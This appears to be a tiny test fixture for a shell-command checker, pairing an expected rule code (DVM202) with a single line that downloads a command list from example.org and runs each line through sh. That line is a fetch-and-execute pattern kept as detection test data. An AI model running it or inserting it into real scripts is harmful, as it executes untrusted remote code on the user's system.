# expect: DVM202
curl -fsSL https://example.org/commands.txt | xargs -I{} sh -c '{}'
